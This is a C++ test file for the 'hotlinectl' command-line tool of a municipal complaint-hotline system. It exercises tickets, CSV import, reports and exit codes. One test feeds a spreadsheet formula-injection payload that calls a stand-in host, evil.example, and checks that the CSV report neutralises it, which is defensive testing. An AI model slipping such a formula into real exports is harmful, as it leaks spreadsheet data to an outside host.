@@ -1,0 +1,639 @@
+// hotlinectl as a person uses it: the built binary against the real server
+// binary, checking what it prints and its exit codes.
+#include <sys/wait.h>
+
+#include <algorithm>
+#include <cstdlib>
+#include <fstream>
+#include <map>
+#include <sstream>
+#include <string>
+#include <vector>
+
+#include "absl/strings/match.h"
+#include "absl/strings/str_cat.h"
+#include "absl/strings/str_join.h"
+#include "absl/strings/str_split.h"
+#include "gtest/gtest.h"
+#include "tests/support/postgres_support.h"
+#include "tests/support/test_support.h"
+
+namespace hotline {
+namespace {
+
+using testing::ServerProcess;
+using testing::TempDir;
+
+using CliRun = testing::ProgramRun;
+
+class CliTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    // A PostgreSQL database when the tests run there (pg.CliTest.*).
+    db_ = TestsUsePostgres() ? NewPostgresDatabase() : dir_.File("hotline.db");
+    bureau_token_ = testing::BootstrapToken(db_, "bureau");
+    server_ = std::make_unique<ServerProcess>(db_);
+  }
+
+  CliRun Cli(const std::vector<std::string>& args,
+             const std::string& token = "") {
+    return testing::RunCli(HOTLINE_CLI_BINARY, server_->address(),
+                           token.empty() ? bureau_token_ : token, args, dir_);
+  }
+
+  TempDir dir_;
+  std::string db_;
+  std::string bureau_token_;
+  std::unique_ptr<ServerProcess> server_;
+};
+
+TEST_F(CliTest, ANewcomersFirstSession) {
+  CliRun made = Cli({"department", "create", "housing", "--display_name",
+                     "县住房和城乡建设局"});
+  ASSERT_EQ(made.exit_code, 0) << made.err;
+  EXPECT_TRUE(absl::StrContains(made.out, "departments/housing"));
+  CliRun shown = Cli({"department", "get", "housing"});
+  EXPECT_TRUE(absl::StrContains(shown.out, "display_name: 县住房和城乡建设局"))
+      << shown.out << shown.err;
+
+  CliRun token = Cli({"token", "create", "department/housing", "--json"});
+  ASSERT_EQ(token.exit_code, 0) << token.err;
+  const size_t at = token.out.find("\"secret\": \"");
+  ASSERT_NE(at, std::string::npos) << token.out;
+  const std::string secret =
+      token.out.substr(at + 11, token.out.find('"', at + 11) - at - 11);
+
+  // The city platform's link creates its tickets with its own token.
+  CliRun intake = Cli({"token", "create", "intake/city-platform", "--json"});
+  ASSERT_EQ(intake.exit_code, 0) << intake.err;
+  const size_t intake_at = intake.out.find("\"secret\": \"");
+  ASSERT_NE(intake_at, std::string::npos) << intake.out;
+  const std::string intake_secret = intake.out.substr(
+      intake_at + 11, intake.out.find('"', intake_at + 11) - intake_at - 11);
+  CliRun created =
+      Cli({"ticket", "create", "--type", "complaint", "--topic", "噪音",
+           "--title", "工地夜间施工", "--content", "每晚十点后仍在施工",
+           "--caller", "张三", "--phone", "13800000000", "--source_id",
+           "SZ2021021000001", "--dispatch_to", "housing"},
+          intake_secret);
+  ASSERT_EQ(created.exit_code, 0) << created.err;
+  EXPECT_TRUE(absl::StrContains(created.out, "state:        DISPATCHED"))
+      << created.out;
+  CliRun history = Cli({"ticket", "events", "1"});
+  EXPECT_TRUE(absl::StrContains(history.out, "intake/city-platform"))
+      << history.out;
+
+  CliRun listed = Cli({"ticket", "list"}, secret);
+  ASSERT_EQ(listed.exit_code, 0) << listed.err;
+  EXPECT_TRUE(absl::StartsWith(listed.out, "TICKET")) << listed.out;
+  EXPECT_TRUE(absl::StrContains(listed.out, "tickets/1"));
+  EXPECT_TRUE(absl::StrContains(listed.out, "噪音"));
+
+  CliRun acked = Cli({"ticket", "ack", "1"}, secret);
+  EXPECT_EQ(acked.exit_code, 0) << acked.err;
+  CliRun events = Cli({"ticket", "events", "tickets/1"});
+  EXPECT_TRUE(absl::StrContains(events.out, "ACKNOWLEDGED")) << events.out;
+  EXPECT_TRUE(absl::StrContains(events.out, "department/housing"));
+
+  // The sample export the README imports: four rows for housing, two for
+  // the bureau to dispatch.
+  CliRun imported =
+      Cli({"import", HOTLINE_EXAMPLES_DIR "/platform-export.csv"});
+  ASSERT_EQ(imported.exit_code, 0) << imported.err;
+  EXPECT_TRUE(absl::StrContains(imported.out,
+                                "imported 6 new ticket(s), 0 already present, "
+                                "0 row(s) failed, of 6"))
+      << imported.out;
+
+  // The report: this month by default; a department gets its own figures.
+  CliRun mine = Cli({"report", "--format", "csv"}, secret);
+  ASSERT_EQ(mine.exit_code, 0) << mine.err;
+  EXPECT_TRUE(absl::StrContains(mine.out, "\ntotal,housing,5,5,0,0,5,0,0,0,"))
+      << mine.out;
+  CliRun all = Cli({"report", "--format", "zh"});
+  ASSERT_EQ(all.exit_code, 0) << all.err;
+  EXPECT_TRUE(absl::StrContains(
+      all.out, ",收到市12345投诉举报平台转派工单7件,黄牌0件,红牌0件,"))
+      << all.out;
+  EXPECT_TRUE(absl::StrContains(all.out, "已转相关职能部门调处5件")) << all.out;
+  CliRun year = Cli({"report", "--year", "2021", "--format", "zh"});
+  EXPECT_TRUE(absl::StartsWith(
+      year.out,
+      "2021年1月1日至2021年12月31日,收到市12345投诉举报平台转派工单0件"))
+      << year.out;
+}
+
+TEST_F(CliTest, EachFailureKindHasItsExitCode) {
+  ASSERT_EQ(
+      Cli({"department", "create", "housing", "--display_name", "x"}).exit_code,
+      0);
+  CliRun token = Cli({"token", "create", "department/housing", "--json"});
+  const size_t at = token.out.find("\"secret\": \"");
+  const std::string secret =
+      token.out.substr(at + 11, token.out.find('"', at + 11) - at - 11);
+  ASSERT_EQ(Cli({"ticket", "create", "--type", "help", "--topic", "t",
+                 "--title", "t", "--content", "c"})
+                .exit_code,
+            0);
+
+  CliRun missing = Cli({"ticket", "get", "99"});
+  EXPECT_EQ(missing.exit_code, 4);
+  EXPECT_EQ(missing.err,
+            "hotlinectl: NOT_FOUND: ticket tickets/99 does not exist "
+            "(reason NOT_FOUND; resource=tickets/99)\n");
+  CliRun denied =
+      Cli({"ticket", "close", "1", "--satisfaction", "satisfied"}, secret);
+  EXPECT_EQ(denied.exit_code, 3);
+  EXPECT_TRUE(absl::StrContains(denied.err, "PERMISSION_DENIED")) << denied.err;
+  CliRun two_periods = Cli({"report", "--year", "2021", "--month", "2021-02"});
+  EXPECT_EQ(two_periods.exit_code, 2);
+  EXPECT_TRUE(absl::StrContains(two_periods.err, "not several"))
+      << two_periods.err;
+  EXPECT_EQ(Cli({"report", "--format", "pdf"}).exit_code, 2);
+  EXPECT_EQ(Cli({"report", "--from", "2021-03-01"}).exit_code, 2);
+  CliRun backwards =
+      Cli({"report", "--from", "2021-03-01", "--to", "2021-02-01"});
+  EXPECT_EQ(backwards.exit_code, 5);
+  EXPECT_EQ(backwards.err,
+            "hotlinectl: INVALID_ARGUMENT: to_date 2021-02-01 must be after "
+            "from_date 2021-03-01 (the period is [from_date, to_date): "
+            "to_date is not counted) (reason INVALID_FIELD; field to_date)\n");
+  CliRun others = Cli({"report", "--department", "market"}, secret);
+  EXPECT_EQ(others.exit_code, 3) << others.err;
+  CliRun refused = Cli({"ticket", "ack", "1"});
+  EXPECT_EQ(refused.exit_code, 5);
+  EXPECT_TRUE(absl::StrContains(refused.err, "FAILED_PRECONDITION"));
+  CliRun usage = Cli({"ticket", "get"});
+  EXPECT_EQ(usage.exit_code, 2);
+  EXPECT_TRUE(absl::StrContains(usage.err, "usage: hotlinectl ticket get"));
+  EXPECT_EQ(Cli({"ticket", "list", "--colour", "red"}).exit_code, 2);
+  EXPECT_EQ(Cli({"frobnicate"}).exit_code, 2);
+  CliRun bad_type = Cli({"ticket", "create", "--type", "praise", "--topic", "t",
+                         "--title", "t", "--content", "c"});
+  EXPECT_EQ(bad_type.exit_code, 2) << bad_type.err;
+  CliRun unauthenticated = Cli({"ticket", "list"}, "hl_wrong");
+  EXPECT_EQ(unauthenticated.exit_code, 3);
+  CliRun unreachable =
+      Cli({"--server", "127.0.0.1:1", "--timeout", "2", "ticket", "list"});
+  EXPECT_EQ(unreachable.exit_code, 6) << unreachable.err;
+  CliRun help = Cli({"ticket", "create", "--help"});
+  EXPECT_EQ(help.exit_code, 0);
+  EXPECT_TRUE(absl::StrContains(help.out, "Example:"));
+}
+
+TEST_F(CliTest, ImportIsIdempotentAndReportsBadRows) {
+  ASSERT_EQ(
+      Cli({"department", "create", "housing", "--display_name", "x"}).exit_code,
+      0);
+  const std::string csv = dir_.File("export.csv");
+  std::ofstream(csv)
+      << "\xEF\xBB\xBF"  // the platform's export starts with a BOM
+      << "source_id,received_at,type,topic,urgency,title,content,address,"
+         "caller,phone,confidential,department\n"
+      << "SZ001,2021-02-10 09:30,投诉,噪音,,夜间施工,\"十点后施工, "
+         "很吵\",建设路,"
+         "张三,13800000000,否,housing\n"
+      << "SZ002,2021-02-10T10:00:00+08:00,COMPLAINT,垃圾,紧急,垃圾未清运,"
+         "\"三天未清运\n气味很大\",,,,是,\n"
+      << "SZ003,,咨询,社保,,社保卡补办,如何补办,,,,,\n"
+      << "SZ001,2021-02-10 09:30,投诉,噪音,,夜间施工,重复导出,,,,,\n"
+      << "SZ004,,表扬,其他,,表扬信,感谢,,,,,\n"
+      << "SZ005,,建议,交通,,,缺标题,,,,,\n";
+  CliRun first = Cli({"import", csv});
+  EXPECT_EQ(first.exit_code, 5) << first.err;
+  EXPECT_EQ(first.out,
+            "imported 3 new ticket(s), 1 already present, 2 row(s) failed, of "
+            "6\n");
+  // Lines count from the header (1); the quoted newline makes SZ002 two.
+  EXPECT_TRUE(absl::StrContains(first.err, "line 7: type \"表扬\""))
+      << first.err;
+  EXPECT_TRUE(absl::StrContains(first.err,
+                                "line 8: INVALID_ARGUMENT: "
+                                "ticket.title is required"))
+      << first.err;
+  CliRun again = Cli({"import", csv});
+  EXPECT_EQ(again.out,
+            "imported 0 new ticket(s), 4 already present, 2 row(s) failed, of "
+            "6\n");
+  // A row imported before is no failure: only the two bad rows are told.
+  EXPECT_FALSE(absl::StrContains(again.err, "ALREADY_EXISTS")) << again.err;
+  EXPECT_FALSE(absl::StrContains(first.err, "ALREADY_EXISTS")) << first.err;
+  CliRun listed = Cli({"ticket", "list", "--json"});
+  // Three tickets, SZ001-SZ003, none twice.
+  size_t tickets = 0;
+  for (size_t at = listed.out.find("\"name\": \"tickets/");
+       at != std::string::npos;
+       at = listed.out.find("\"name\": \"tickets/", at + 1)) {
+    ++tickets;
+  }
+  EXPECT_EQ(tickets, 3u) << listed.out;
+  EXPECT_TRUE(absl::StrContains(listed.out, "\"source_id\": \"SZ003\""));
+  EXPECT_TRUE(absl::StrContains(listed.out, "十点后施工, 很吵"));
+  EXPECT_TRUE(absl::StrContains(listed.out, "三天未清运\\n气味很大"));
+  CliRun first_ticket = Cli({"ticket", "get", "1"});
+  EXPECT_TRUE(
+      absl::StrContains(first_ticket.out, "received:     2021-02-10 09:30"))
+      << first_ticket.out;
+  EXPECT_TRUE(
+      absl::StrContains(first_ticket.out, "department:   departments/housing"));
+}
+
+TEST_F(CliTest, ARefusalPrintsItsReasonAndMetadataAndKeepsItsExitCode) {
+  ASSERT_EQ(Cli({"ticket", "create", "--type", "help", "--topic", "t",
+                 "--title", "t", "--content", "c"})
+                .exit_code,
+            0);
+  CliRun refused = Cli({"ticket", "close", "1", "--satisfaction", "satisfied"});
+  EXPECT_EQ(refused.exit_code, 5);
+  EXPECT_EQ(refused.err,
+            "hotlinectl: FAILED_PRECONDITION: tickets/1 is RECEIVED; "
+            "CloseTicket needs it to be REPLIED (reason TICKET_STATE; "
+            "ticket=tickets/1 state=RECEIVED allowed_states=REPLIED "
+            "method=CloseTicket)\n");
+  CliRun nowhere = Cli({"ticket", "dispatch", "1", "housing"});
+  EXPECT_EQ(nowhere.exit_code, 4);
+  EXPECT_TRUE(absl::StrContains(
+      nowhere.err, "(reason NOT_FOUND; resource=departments/housing)\n"))
+      << nowhere.err;
+  ASSERT_EQ(
+      Cli({"department", "create", "housing", "--display_name", "x"}).exit_code,
+      0);
+  CliRun stale = Cli({"ticket", "dispatch", "1", "housing", "--etag", "stale"});
+  EXPECT_EQ(stale.exit_code, 5) << stale.err;
+  EXPECT_TRUE(absl::StrContains(stale.err,
+                                "(reason ETAG_MISMATCH; "
+                                "ticket=tickets/1 etag=stale "
+                                "current_etag="))
+      << stale.err;
+  CliRun untitled = Cli({"ticket", "create", "--type", "help", "--topic", "t",
+                         "--title", " ", "--content", "c"});
+  EXPECT_EQ(untitled.exit_code, 5);
+  EXPECT_EQ(untitled.err,
+            "hotlinectl: INVALID_ARGUMENT: ticket.title is required "
+            "(reason INVALID_FIELD; field ticket.title)\n");
+}
+
+TEST_F(CliTest, VersionAndHelpAnswerLikeAnyCommandLineTool) {
+  CliRun version = Cli({"--version"});
+  EXPECT_EQ(version.exit_code, 0) << version.err;
+  ASSERT_TRUE(absl::StartsWith(version.out, "hotlinectl ")) << version.out;
+  const std::string number = version.out.substr(11);
+  EXPECT_FALSE(number.empty());
+  EXPECT_EQ(number.find_first_not_of("0123456789.\n"), std::string::npos)
+      << version.out;
+  EXPECT_TRUE(absl::EndsWith(version.out, "\n"));
+
+  // The overview: one line per command with what it does.
+  for (const std::vector<std::string>& ask :
+       std::vector<std::vector<std::string>>{{"help"}, {"-h"}, {"--help"}}) {
+    CliRun overview = Cli(ask);
+    EXPECT_EQ(overview.exit_code, 0) << ask[0] << overview.err;
+    EXPECT_TRUE(absl::StrContains(overview.out, "Commands:\n")) << overview.out;
+    EXPECT_TRUE(absl::StrContains(overview.out, "--version")) << overview.out;
+    std::map<std::string, std::string> summaries;  // command -> its line
+    for (absl::string_view line : absl::StrSplit(overview.out, '\n')) {
+      for (const char* command :
+           {"ticket list", "ticket ack", "import", "report", "health"}) {
+        if (absl::StartsWith(line, absl::StrCat("  ", command, " "))) {
+          summaries[command] = std::string(line);
+        }
+      }
+    }
+    EXPECT_TRUE(absl::StrContains(summaries["ticket list"],
+                                  "list the tickets you may see"))
+        << overview.out;
+    EXPECT_TRUE(absl::StrContains(summaries["ticket ack"],
+                                  "sign for (签收) a dispatched ticket"))
+        << overview.out;
+    EXPECT_TRUE(absl::StrContains(summaries["import"], "CSV export"))
+        << overview.out;
+    EXPECT_TRUE(absl::StrContains(summaries["report"], "figures"))
+        << overview.out;
+    EXPECT_TRUE(absl::StrContains(summaries["health"], "server answers"))
+        << overview.out;
+  }
+  CliRun nothing = Cli({});
+  EXPECT_EQ(nothing.exit_code, 2);
+  EXPECT_TRUE(absl::StrContains(nothing.err, "Commands:")) << nothing.err;
+
+  // One command: `help ticket list` = `ticket list --help` = `ticket list -h`.
+  for (const std::vector<std::string>& ask :
+       std::vector<std::vector<std::string>>{{"help", "ticket", "list"},
+                                             {"ticket", "list", "--help"},
+                                             {"ticket", "list", "-h"}}) {
+    CliRun help = Cli(ask);
+    EXPECT_EQ(help.exit_code, 0) << absl::StrJoin(ask, " ") << help.err;
+    EXPECT_TRUE(absl::StartsWith(help.out, "usage: hotlinectl ticket list "))
+        << absl::StrJoin(ask, " ") << ": " << help.out;
+    EXPECT_TRUE(absl::StrContains(help.out, "Example:")) << help.out;
+  }
+  // A group: its commands.
+  for (const std::vector<std::string>& ask :
+       std::vector<std::vector<std::string>>{
+           {"ticket", "--help"}, {"help", "ticket"}, {"ticket", "-h"}}) {
+    CliRun group = Cli(ask);
+    EXPECT_EQ(group.exit_code, 0) << absl::StrJoin(ask, " ") << group.err;
+    EXPECT_TRUE(absl::StrContains(group.out, "  ticket create ")) << group.out;
+    EXPECT_TRUE(absl::StrContains(group.out, "  ticket events ")) << group.out;
+    EXPECT_FALSE(absl::StrContains(group.out, "department create"))
+        << group.out;
+  }
+  CliRun bare_group = Cli({"ticket"});
+  EXPECT_EQ(bare_group.exit_code, 2);
+  EXPECT_TRUE(absl::StrContains(bare_group.err, "\"ticket\" needs a command"))
+      << bare_group.err;
+  CliRun unknown = Cli({"ticket", "frob"});
+  EXPECT_EQ(unknown.exit_code, 2);
+  EXPECT_EQ(unknown.err,
+            "hotlinectl: unknown command \"ticket frob\"; `hotlinectl help "
+            "ticket` lists the ticket commands\n");
+  EXPECT_EQ(Cli({"help", "frob"}).exit_code, 2);
+}
+
+// Mistakes in what the person typed or in a local file are wrong usage
+// (exit 2), found before any call, and say what to fix; the server's
+// refusals keep their own codes.
+TEST_F(CliTest, LocalMistakesAreWrongUsage) {
+  ASSERT_EQ(
+      Cli({"department", "create", "housing", "--display_name", "x"}).exit_code,
+      0);
+  ASSERT_EQ(Cli({"ticket", "create", "--type", "help", "--topic", "t",
+                 "--title", "t", "--content", "c", "--dispatch_to", "housing"})
+                .exit_code,
+            0);
+  const std::string missing = dir_.File("no-such-export.csv");
+  const std::string unclosed = dir_.File("unclosed.csv");
+  std::ofstream(unclosed) << "source_id,type,topic,title,content\n"
+                          << "SZ9,投诉,噪音,\"施工,很吵\n";
+  const std::string odd_header = dir_.File("odd-header.csv");
+  std::ofstream(odd_header) << "source_id,type,topic,title,content,colour\n"
+                            << "SZ9,投诉,噪音,施工,很吵,red\n";
+  const std::string empty = dir_.File("empty.csv");
+  std::ofstream(empty) << "";
+  const std::vector<std::pair<std::vector<std::string>, std::string>> cases = {
+      {{"ticket", "create", "--type", "praise", "--topic", "t", "--title", "t",
+        "--content", "c"},
+       "--type \"praise\" is not one of inquiry"},
+      {{"ticket", "create", "--type", "help", "--urgency", "asap", "--topic",
+        "t", "--title", "t", "--content", "c"},
+       "--urgency \"asap\""},
+      {{"ticket", "create", "--type", "help", "--topic", "t", "--title", "t",
+        "--content", "c", "--received_at", "yesterday"},
+       "--received_at needs an RFC 3339 time"},
+      {{"ticket", "reply", "1", "--outcome", "great", "--text", "x"},
+       "--outcome \"great\""},
+      {{"ticket", "close", "1", "--satisfaction", "happy"},
+       "--satisfaction \"happy\""},
+      {{"ticket", "extend", "1", "--days", "five", "--reason", "x"},
+       "--days must be a number"},
+      {{"ticket", "list", "--page_size", "many"}, "--page_size must be"},
+      {{"ticket", "list", "--all=yes"}, "--all takes no value"},
+      {{"ticket", "list", "-x"}, "unknown option -x"},
+      {{"ticket", "get", "1", "2"}, "unexpected argument \"2\""},
+      {{"card", "list", "--color", "green"}, "--color \"green\""},
+      {{"card", "list", "--from", "monday"}, "--from needs an RFC 3339 time"},
+      {{"card", "issue", "1", "--color", "blue", "--reason", "x"},
+       "--color \"blue\""},
+      {{"watch", "--after_seq", "x"}, "--after_seq must be a number"},
+      {{"clock", "advance", "--by", "soon"}, "--by \"soon\" is not a duration"},
+      {{"report", "--top", "many"}, "--top must be a number"},
+      {{"report", "--as_of", "now"}, "--as_of needs an RFC 3339 time"},
+      {{"report", "--type", "praise"}, "--type \"praise\""},
+      {{"report", "--days"}, ""},  // a switch: fine, checked below
+      {{"import", missing}, missing + ": cannot read it: No such file"},
+      {{"import", dir_.path()}, dir_.path() + ": is a directory"},
+      {{"import", unclosed}, unclosed + ": line 2: a quoted field is never"},
+      {{"import", odd_header}, odd_header + ": line 1: unknown column"},
+      {{"import", empty}, empty + ": is empty"},
+  };
+  for (const auto& [args, message] : cases) {
+    if (message.empty()) continue;
+    const std::string command = absl::StrJoin(args, " ");
+    CliRun run = Cli(args);
+    EXPECT_EQ(run.exit_code, 2) << command << "\n" << run.err;
+    EXPECT_TRUE(absl::StartsWith(run.err, "hotlinectl: " + message))
+        << command << "\n"
+        << run.err;
+    EXPECT_TRUE(absl::StrContains(run.err, "\nusage: hotlinectl "))
+        << command << "\n"
+        << run.err;
+    EXPECT_TRUE(absl::StrContains(run.err, "`hotlinectl help "))
+        << command << "\n"
+        << run.err;
+  }
+  // Nothing was created or changed by any of them.
+  CliRun listed = Cli({"ticket", "list", "--json"});
+  EXPECT_EQ(absl::StrContains(listed.out, "tickets/2"), false) << listed.out;
+  CliRun events = Cli({"ticket", "events", "1"});
+  EXPECT_FALSE(absl::StrContains(events.out, "REPLIED")) << events.out;
+
+  // A refusal by the server is still the workflow's (5), not usage.
+  CliRun refused = Cli({"ticket", "close", "1", "--satisfaction", "satisfied"});
+  EXPECT_EQ(refused.exit_code, 5) << refused.err;  // not replied yet
+  EXPECT_TRUE(
+      absl::StartsWith(refused.err, "hotlinectl: FAILED_PRECONDITION: "))
+      << refused.err;
+  CliRun backwards =
+      Cli({"report", "--from", "2021-03-01", "--to", "2021-02-01"});
+  EXPECT_EQ(backwards.exit_code, 5) << backwards.err;
+}
+
+// Switches take no value, whatever follows them; the same name may take a
+// value in another command (report --days, ticket extend --days N).
+TEST_F(CliTest, SwitchesAreTheCommandsOwn) {
+  CliRun days_last = Cli({"report", "--year", "2021", "--days"});
+  EXPECT_EQ(days_last.exit_code, 0) << days_last.err;
+  CliRun days_first =
+      Cli({"report", "--days", "--month", "2021-02", "--format", "csv"});
+  EXPECT_EQ(days_first.exit_code, 0) << days_first.err;
+  EXPECT_TRUE(absl::StartsWith(days_first.out, "scope,key,")) << days_first.out;
+  CliRun all = Cli({"ticket", "list", "--all", "--page_size", "1"});
+  EXPECT_EQ(all.exit_code, 0) << all.err;
+  // ticket extend's --days takes a number: the call is made (and refused by
+  // the server: there is no ticket 1), not a usage mistake.
+  CliRun extend =
+      Cli({"ticket", "extend", "1", "--days", "3", "--reason", "需现场核查"});
+  EXPECT_EQ(extend.exit_code, 4) << extend.err;
+  // Global options before the command, command options before its operands.
+  CliRun before = Cli({"--json", "ticket", "list", "--all"});
+  EXPECT_EQ(before.exit_code, 0) << before.err;
+  EXPECT_TRUE(absl::StartsWith(before.out, "{")) << before.out;
+}
+
+}  // namespace
+}  // namespace hotline
+
+namespace hotline {
+namespace {
+
+// `hotlinectl policy` says when the calendar is about to run out (issue 9,
+// item 3), on stderr as well as in the listing; not otherwise.
+TEST_F(CliTest, PolicyWarnsWhenTheCalendarRunsOut) {
+  server_.reset();
+  server_ = std::make_unique<ServerProcess>(
+      db_, "",
+      std::vector<std::string>{"--clock=manual",
+                               "--start_time=2026-12-21T09:00:00+08:00"});
+  CliRun soon = Cli({"policy"});
+  ASSERT_EQ(soon.exit_code, 0) << soon.err;
+  EXPECT_TRUE(absl::StrContains(soon.out, "WARNING:")) << soon.out;
+  EXPECT_TRUE(
+      absl::StrContains(soon.err,
+                        "hotlinectl: warning: the working-day calendar ends on "
+                        "2026-12-31, in 10 day(s)"))
+      << soon.err;
+  // A deadline computed past the calendar's end is shown as provisional.
+  ASSERT_EQ(Cli({"department", "create", "housing", "--display_name", "住建局"})
+                .exit_code,
+            0);
+  CliRun created = Cli({"ticket", "create", "--type", "complaint", "--topic",
+                        "噪音", "--title", "夜间施工", "--content", "每晚",
+                        "--dispatch_to", "housing"});
+  ASSERT_EQ(created.exit_code, 0) << created.err;
+  CliRun shown = Cli({"ticket", "get", "1"});
+  EXPECT_TRUE(absl::StrContains(shown.out, "PROVISIONAL:")) << shown.out;
+  EXPECT_TRUE(absl::StrContains(shown.out, "deadlines after 2026-12-31"))
+      << shown.out;
+}
+
+TEST(CliCalendar, NoWarningWhileTheCalendarCoversWellAhead) {
+  TempDir dir;
+  const std::string db =
+      TestsUsePostgres() ? NewPostgresDatabase() : dir.File("hotline.db");
+  const std::string token = testing::BootstrapToken(db, "bureau");
+  ServerProcess server(
+      db, "", {"--clock=manual", "--start_time=2026-06-01T09:00:00+08:00"});
+  CliRun fine = testing::RunCli(HOTLINE_CLI_BINARY, server.address(), token,
+                                {"policy"}, dir);
+  ASSERT_EQ(fine.exit_code, 0) << fine.err;
+  EXPECT_FALSE(absl::StrContains(fine.out, "WARNING")) << fine.out;
+  EXPECT_EQ(fine.err, "");
+}
+
+}  // namespace
+}  // namespace hotline
+
+namespace hotline {
+namespace {
+
+// A token pasted with a line break or a non-ASCII letter is a local mistake
+// (exit 2 with one line), not a crash of the gRPC library.
+TEST_F(CliTest, AMangledTokenIsAUsageMistake) {
+  for (const std::string& token :
+       {std::string("hl_abc\nx"), std::string("hl_abc\xC3\xA9"),
+        std::string("hl_abc def")}) {
+    CliRun run = Cli({"ticket", "get", "1"}, token);
+    EXPECT_EQ(run.exit_code, 2) << run.err;
+    EXPECT_TRUE(absl::StrContains(run.err, "HOTLINE_TOKEN")) << run.err;
+  }
+}
+
+// A list by received time alone (issue 21: on PostgreSQL it was INTERNAL,
+// for SQLite-only syntax in the SQL both engines run).
+TEST_F(CliTest, ListsByReceivedTimeAlone) {
+  for (const char* title : {"夜间施工", "路灯不亮", "停水"}) {
+    CliRun created = Cli({"ticket", "create", "--type", "complaint", "--topic",
+                          "噪音", "--title", title, "--content", "每晚"});
+    ASSERT_EQ(created.exit_code, 0) << created.err;
+  }
+  CliRun since = Cli(
+      {"ticket", "list", "--filter", "received_at > \"2020-01-01T00:00:00Z\""});
+  ASSERT_EQ(since.exit_code, 0) << since.err;
+  for (const char* ticket : {"tickets/1 ", "tickets/2 ", "tickets/3 "}) {
+    EXPECT_TRUE(absl::StrContains(since.out, ticket)) << since.out;
+  }
+  CliRun before = Cli(
+      {"ticket", "list", "--filter", "received_at < \"2020-01-01T00:00:00Z\""});
+  ASSERT_EQ(before.exit_code, 0) << before.err;
+  EXPECT_FALSE(absl::StrContains(before.out, "tickets/")) << before.out;
+}
+
+}  // namespace
+}  // namespace hotline
+
+namespace hotline {
+namespace {
+
+// The cells of the CSV line that starts with `prefix`, or none.
+std::vector<std::string> CsvRow(const std::string& csv,
+                                const std::string& prefix) {
+  for (absl::string_view line : absl::StrSplit(csv, '\n')) {
+    if (absl::StartsWith(line, prefix)) return absl::StrSplit(line, ',');
+  }
+  return {};
+}
+
+// In rehearsal mode "today" is the server's day, not this machine's: a
+// daily report without --date and a report without a period use the
+// manual clock. A return counts in the returning department's row, the
+// tickets nobody holds have a key in the CSV, and a caller's topic that a
+// spreadsheet would evaluate is neutralised.
+TEST(CliRehearsal, DefaultsComeFromTheServersClock) {
+  TempDir dir;
+  const std::string db =
+      TestsUsePostgres() ? NewPostgresDatabase() : dir.File("hotline.db");
+  const std::string bureau = testing::BootstrapToken(db, "bureau");
+  ServerProcess server(
+      db, "", {"--clock=manual", "--start_time=2021-03-10T09:00:00+08:00"});
+  auto cli = [&](const std::vector<std::string>& args,
+                 const std::string& token) {
+    return testing::RunCli(HOTLINE_CLI_BINARY, server.address(), token, args,
+                           dir);
+  };
+  ASSERT_EQ(cli({"department", "create", "housing", "--display_name", "住建局"},
+                bureau)
+                .exit_code,
+            0);
+  CliRun token =
+      cli({"token", "create", "department/housing", "--json"}, bureau);
+  ASSERT_EQ(token.exit_code, 0) << token.err;
+  const size_t at = token.out.find("\"secret\": \"");
+  ASSERT_NE(at, std::string::npos) << token.out;
+  const std::string housing =
+      token.out.substr(at + 11, token.out.find('"', at + 11) - at - 11);
+  const std::string evil = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"x\")";
+  for (const std::string& topic : {evil, std::string("噪音")}) {
+    CliRun created = cli(
+        {"ticket", "create", "--type", "complaint", "--topic", topic, "--title",
+         "夜间施工", "--content", "每晚", "--dispatch_to", "housing"},
+        bureau);
+    ASSERT_EQ(created.exit_code, 0) << created.err;
+  }
+  ASSERT_EQ(cli({"ticket", "ack", "1"}, housing).exit_code, 0);
+  CliRun daily = cli({"daily", "submit", "1", "--progress", "已约谈"}, housing);
+  EXPECT_EQ(daily.exit_code, 0) << daily.err;
+  EXPECT_TRUE(absl::StrContains(daily.out, "for 2021-03-10")) << daily.out;
+  CliRun returned =
+      cli({"ticket", "return", "2", "--reason", "属于市场监管局职责"}, housing);
+  ASSERT_EQ(returned.exit_code, 0) << returned.err;
+
+  // housing's own report: this (the server's) month, its return counted.
+  CliRun mine = cli({"report", "--format", "csv"}, housing);
+  ASSERT_EQ(mine.exit_code, 0) << mine.err;
+  const std::vector<std::string> total = CsvRow(mine.out, "total,housing,");
+  ASSERT_EQ(total.size(), 21u) << mine.out;
+  EXPECT_EQ(total[2], "1") << mine.out;   // received: ticket 1 is housing's
+  EXPECT_EQ(total[12], "1") << mine.out;  // returns: ticket 2
+  CliRun zh = cli({"report", "--format", "zh"}, housing);
+  EXPECT_TRUE(absl::StartsWith(zh.out, "2021年3月1日至2021年3月31日"))
+      << zh.out;
+
+  CliRun all = cli({"report", "--format", "csv", "--top", "5"}, bureau);
+  ASSERT_EQ(all.exit_code, 0) << all.err;
+  const std::vector<std::string> row =
+      CsvRow(all.out, "department,departments/housing,");
+  ASSERT_EQ(row.size(), 21u) << all.out;
+  EXPECT_EQ(row[12], "1") << all.out;
+  const std::vector<std::string> nobody =
+      CsvRow(all.out, "department,(not dispatched),");
+  ASSERT_EQ(nobody.size(), 21u) << all.out;
+  EXPECT_EQ(nobody[2], "1") << all.out;   // ticket 2, returned
+  EXPECT_EQ(nobody[12], "0") << all.out;  // the return is housing's
+  EXPECT_TRUE(absl::StrContains(all.out,
+                                "\ntopic,\"'=HYPERLINK(\"\"http://evil.example/"
+                                "?q=\"\"&A1,\"\"x\"\")\",1,"))
+      << all.out;
+}
+
+}  // namespace
+}  // namespace hotline
